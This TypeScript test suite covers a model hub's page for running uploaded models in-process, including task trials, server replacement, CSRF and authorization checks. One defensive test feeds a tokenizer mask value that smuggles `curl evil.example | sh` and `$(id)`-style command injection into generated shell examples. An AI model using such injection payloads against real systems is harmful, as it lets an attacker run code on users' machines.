/** The page on which somebody has the hub run a model itself, and what else people see of that. INF-1, INF-7, INF-9. */
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { signInAs } from '../../../tests/support/accounts.ts'
import { dialects } from '../../../tests/support/databases.ts'
import { type EmbeddedWorld, startEmbeddedHub } from '../../../tests/support/embedded.ts'
import { password } from '../../../tests/support/inference.ts'
import {
  alphabetModel,
  answerModel,
  colourModel,
  embeddingModel,
  entailmentModel,
  entityModel,
  type ModelFiles,
  maskModel,
  rewritingModel,
  sentimentModel,
} from '../../../tests/support/tiny-models.ts'
import { libraryCommand } from './embedded/running.ts'
import { glanceAtInference } from './glance.ts'
import { findServed } from './queries.ts'

describe.each(dialects)('models that the hub runs, on their pages, on %s', (dialect) => {
  let world: EmbeddedWorld
  let ada: string
  let bob: string

  beforeAll(async () => {
    world = await startEmbeddedHub(dialect, { HOLDFAST_LOG_LEVEL: 'silent' })
    ada = await signInAs(world.site, { name: 'Ada', password })
    bob = await signInAs(world.site, { name: 'bob', password })
  }, 60_000)
  afterAll(async () => {
    await world?.host.stop()
    await world?.site.stop()
  })

  const pageOf = (model: string) => `/${model}/settings/inference`
  const see = async (model: string, more = '') =>
    (await world.ask('GET', `${pageOf(model)}${more}`, { cookie: ada })).text
  const send = (model: string, more: string, form: Record<string, string>, cookie = ada) =>
    world.ask('POST', `${pageOf(model)}${more}`, { cookie, form })
  const madeFrom = (html: string) => /name="madeFrom" value="(\d*)"/.exec(html)?.[1] ?? 'none'
  const press = async (model: string, more: string, form: Record<string, string> = {}) =>
    await send(model, more, { madeFrom: madeFrom(await see(model)), ...form })
  const tryOut = async (model: string, form: Record<string, string>) => {
    const answer = await send(model, '/try', form)
    return /whitespace-pre-wrap[^>]*>([^<]*)</.exec(answer.text)?.[1] ?? answer.text
  }
  async function servedOf(model: string) {
    const { hub } = world.site
    const name = model.split('/')[1] ?? ''
    const { id } = await hub.db.read.selectFrom('repo').select('id').where('name', '=', name).executeTakeFirstOrThrow()
    return await findServed(hub.db.read, id)
  }
  async function uploaded(files: ModelFiles, tag: string | null = null): Promise<string> {
    const model = await world.makeModel(false)
    await world.put(model, files, tag)
    return model
  }

  test('INF-1: the hub runs it after one press, tells how far it is, and ends it', async () => {
    const model = await uploaded(embeddingModel(), 'sentence-similarity')
    expect(await see(model)).toContain('Run it on this hub')
    expect((await press(model, '/embedded')).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: true, backends: [], commit: null })
    const fresh = await see(model)
    expect(fresh).toContain('This hub runs it')
    expect(fresh).toContain('The first call loads it')
    expect(fresh).not.toContain('Servers that answer')
    expect(await tryOut(model, { way: 'embedding', text: 'the dog' })).toContain('A vector of 8 numbers')
    expect(await see(model)).toMatch(/It takes [\d.,]+ \wB of the/)
    const alike = await tryOut(model, { way: 'sentence-similarity', text: 'dog', more: 'dog\nthe cat sat' })
    expect(alike).toMatch(/^1\.0000\n-?0\.\d{4}$/)
    expect((await press(model, '/end')).status).toBe(303)
    expect(await servedOf(model)).toBe(null)
    expect(await see(model)).toContain('No server answers for it')
  })

  test('each task is tried with what it asks for', async () => {
    const cases = [
      [sentimentModel(), null, { way: 'text-classification', text: 'good' }, /^98\.2 % {2}POSITIVE\n/],
      [entityModel(), null, { way: 'token-classification', text: 'Ada lives in Paris.' }, /^ada: PER, .*\nparis: LOC/],
      [maskModel(), null, { way: 'fill-mask', text: 'the [MASK] sat' }, /the cat sat\n/],
      [
        entailmentModel(),
        'zero-shot-classification',
        { way: 'zero-shot-classification', text: 'the cat', more: 'city, animal' },
        /^88\.1 % {2}animal\n11\.9 % {2}city$/,
      ],
      [
        answerModel(),
        null,
        { way: 'question-answering', text: 'Where is Ada?', more: 'Ada lives in Paris.' },
        /^Paris \(/,
      ],
      [rewritingModel(), 'text2text-generation', { way: 'summarization', text: 'the cat' }, /^a b c d e$/],
      [rewritingModel(), 'translation', { way: 'translation', text: 'the cat' }, /^a b c d e$/],
      [alphabetModel(), null, { way: 'chat', text: 'a b' }, /^c d e$/],
      [alphabetModel(), null, { way: 'completion', text: 'a b' }, /c d e$/],
    ] as const
    for (const [files, tag, form, said] of cases) {
      const model = await world.run(files, tag === null ? {} : { tag })
      const page = await see(model)
      expect(page, form.way).toMatch(
        new RegExp(`<option value="${form.way}"|<input type="hidden" name="way" value="${form.way}"`),
      )
      expect(page.includes('name="more"'), form.way).toBe('more' in form)
      expect(await tryOut(model, form), form.way).toMatch(said)
      if ('more' in form) {
        const blank = await send(model, '/try', { ...form, more: ' ' })
        expect([blank.status, blank.text.includes('id="field-more-error"')]).toEqual([422, true])
      }
    }
    const eyes = await world.run(colourModel())
    expect(await see(eyes)).toContain('--data-binary @photo.jpg')
    expect(await see(eyes)).not.toContain('Call the model')
  })

  test('what cannot be run is refused beside the button, with the reason', async () => {
    const model = await world.makeModel(false)
    await world.put(model, { 'config.json': Buffer.from('{}'), 'tokenizer.json': Buffer.from('{}') }, null)
    const refused = await press(model, '/embedded')
    expect(refused.status).toBe(422)
    const section = refused.text.slice(refused.text.indexOf('id="embed-h"'))
    expect(section.slice(0, section.indexOf('</form>'))).toContain('it has no graph in ONNX')
    expect(await servedOf(model)).toBe(null)
    // It was whole when it was attached, and a push took its graph away since.
    const later = await world.run(sentimentModel())
    await world.put(later, { 'config.json': Buffer.from('no JSON') }, null)
    expect(await see(later)).toContain('its config.json is no JSON')
    const pinned = await press(later, '/revision', { revision: 'main' })
    expect([pinned.status, pinned.text.includes('id="field-revision-error"')]).toEqual([422, true])
  })

  // The story: an administrator presses the button on an old page, and with it the server, and the only copy of its key, that another one
  // named a minute ago are gone.
  test('INF-7: servers are replaced after a question that says what goes, and never those that were not seen', async () => {
    const model = await uploaded(sentimentModel())
    const old = madeFrom(await see(model))
    await world.setServers(model, [{ url: 'http://127.0.0.3:1', kind: 'tgi', secret: 'sk-only-copy' }])
    const stale = await send(model, '/embedded', { madeFrom: old })
    expect([stale.status, stale.text.includes('Somebody changed the servers')]).toEqual([409, true])
    expect((await servedOf(model))?.backends.length).toBe(1)
    expect(await see(model)).toContain('?dialog=embed')
    const asked = await see(model, '?dialog=embed')
    expect(asked).toContain('The keys cannot be recovered')
    expect(asked).toContain('http://127.0.0.3:1')
    expect(asked).not.toContain('sk-only-copy')
    expect((await press(model, '/embedded')).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: true, backends: [] })
    // And back: a server takes the place of the hub, which the form says.
    expect(await see(model)).toContain('A server that is added here takes its place')
    expect((await press(model, '', { url: 'http://127.0.0.3:1', kind: 'vllm' })).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: false, backends: [{ secret: null }] })
  })

  test('the revision that servers ran stays when the hub takes their place, is changed, and leaves the hub in charge', async () => {
    const model = await uploaded(sentimentModel())
    const server = { url: 'http://127.0.0.3:1', kind: 'tgi', weight: 1 }
    const put = { backends: [server], revision: 'main' }
    await world.ask('PUT', `/api/models/${model}/inference`, { token: world.ada.token, body: put })
    const first = (await servedOf(model))?.commit
    await world.put(model, { 'config.json': Buffer.from('no JSON') }, null)
    // What is checked is what will run, and not the head, which is broken.
    expect((await press(model, '/embedded')).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: true, revision: 'main', commit: first })
    expect((await press(model, '/revision', { revision: first ?? '' })).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: true, revision: first, commit: first })
    await world.put(model, sentimentModel(), null)
    expect((await press(model, '/revision', { revision: '' })).status).toBe(303)
    expect(await servedOf(model)).toMatchObject({ isEmbedded: true, revision: null, commit: null })
  })

  test('the page of the model says how each task is called, and lists have the mark', async () => {
    const shown = async (files: ModelFiles, tag: string | null) => {
      const model = await world.run(files, tag === null ? {} : { tag })
      const { text } = await world.ask('GET', `/${model}`, { cookie: bob })
      return { model, text: text.replaceAll('&quot;', '"').replaceAll('&#39;', "'") }
    }
    const { model, text } = await shown(sentimentModel(), 'text-classification')
    expect(text).toContain(`/models/${model}/pipeline/text-classification`)
    expect(text).toContain('client.text_classification(')
    expect(text).not.toContain('/v1/chat/completions')
    const list = (await world.ask('GET', '/models?inference=served', { cookie: bob })).text
    expect(list).toContain(`href="/${model}"`)
    for (const [files, tag, parts] of [
      [embeddingModel(), 'feature-extraction', ['/v1/embeddings', 'client.feature_extraction(']],
      [alphabetModel(), 'text-generation', ['/v1/chat/completions', 'client.chat_completion(']],
      [alphabetModel({ template: '' }), 'text-generation', ['/v1/completions', 'client.text_generation(']],
      [maskModel(), null, ['/pipeline/fill-mask', 'client.fill_mask("The ship lies in the [MASK].")']],
      [entailmentModel(), 'zero-shot-classification', ['"candidate_labels":["travel","food"]', 'candidate_labels=[']],
      [answerModel(), null, ['"question":"Where does Ada live?"', 'client.question_answering(question=']],
      [rewritingModel(), 'text2text-generation', ['/pipeline/summarization', 'client.summarization(']],
      [colourModel(), null, ['--data-binary @photo.jpg', 'client.image_classification("photo.jpg")']],
      [rewritingModel(), null, ['TASK=', '/pipeline/$TASK']],
    ] as const) {
      const page = await shown(files, tag)
      for (const part of parts) expect(page.text, String(tag)).toContain(part)
    }
  })

  // The story: whoever uploads a model names its mask so that the command on its page, copied into a shell, does something else.
  test('a mask that is no word in brackets gets into no command', async () => {
    const wicked = `[MASK]'; curl evil.example | sh; echo '`
    for (const mask of [wicked, { content: wicked }, '<mask>`id`', '<$(id)>', 7]) {
      const files = maskModel()
      const config = JSON.parse(files['tokenizer_config.json']?.toString() ?? '{}')
      const changed = Buffer.from(JSON.stringify({ ...config, mask_token: mask }))
      const model = await world.run({ ...files, 'tokenizer_config.json': changed })
      const { text } = await world.ask('GET', `/${model}`, { cookie: bob })
      expect(text).toContain('The ship lies in the [MASK].')
      expect(text).not.toMatch(/evil\.example|\bid\)|`id`/)
      expect(await see(model)).not.toMatch(/evil\.example|`id`/)
    }
    const files = maskModel()
    const angled = Buffer.from(JSON.stringify({ mask_token: { content: '<mask>' } }))
    const model = await world.run({ ...files, 'tokenizer_config.json': angled })
    expect((await world.ask('GET', `/${model}`, { cookie: bob })).text).toContain('The ship lies in the &lt;mask&gt;.')
  })

  // The story: a page elsewhere has an administrator's browser press the button; and somebody who may not asks whether a hidden model is there.
  test('CSRF, AUTH-7: nobody else presses the button', async () => {
    const model = await uploaded(sentimentModel())
    const hidden = await world.makeModel(true)
    const crossing = await fetch(`${world.site.url}${pageOf(model)}/embedded`, {
      method: 'POST',
      redirect: 'manual',
      headers: { cookie: ada, 'sec-fetch-site': 'cross-site' },
      body: new URLSearchParams({ madeFrom: '' }),
    })
    expect(crossing.status).toBe(403)
    expect((await send(model, '/embedded', { madeFrom: '' }, bob)).status).toBe(403)
    expect((await send(hidden, '/embedded', { madeFrom: '' }, bob)).status).toBe(404)
    expect([await servedOf(model), await servedOf(hidden)]).toEqual([null, null])
  })

  test('the administration counts what runs here among the models that answer, and none that is deleted', async () => {
    const { hub } = world.site
    const before = await glanceAtInference(hub)
    const model = await world.run(sentimentModel())
    await world.call(model, { inputs: 'good', options: { wait_for_model: true } })
    const after = await glanceAtInference(hub)
    expect([after.models, after.embedded]).toEqual([before.models + 1, before.embedded + 1])
    expect(after.memory).toBeGreaterThan(0)
    const [organization, name] = model.split('/')
    const gone = await world.ask('DELETE', '/api/repos/delete', {
      token: world.ada.token,
      body: { type: 'model', organization, name },
    })
    expect(gone.status, gone.text).toBe(200)
    expect(await glanceAtInference(hub)).toMatchObject({ models: before.models, embedded: before.embedded })
  })
})

test('the command that adds the library names the version that the hub is built with', () => {
  const { optionalDependencies } = JSON.parse(readFileSync('package.json', 'utf8'))
  expect(libraryCommand).toContain(`@huggingface/transformers@${optionalDependencies['@huggingface/transformers']}`)
})
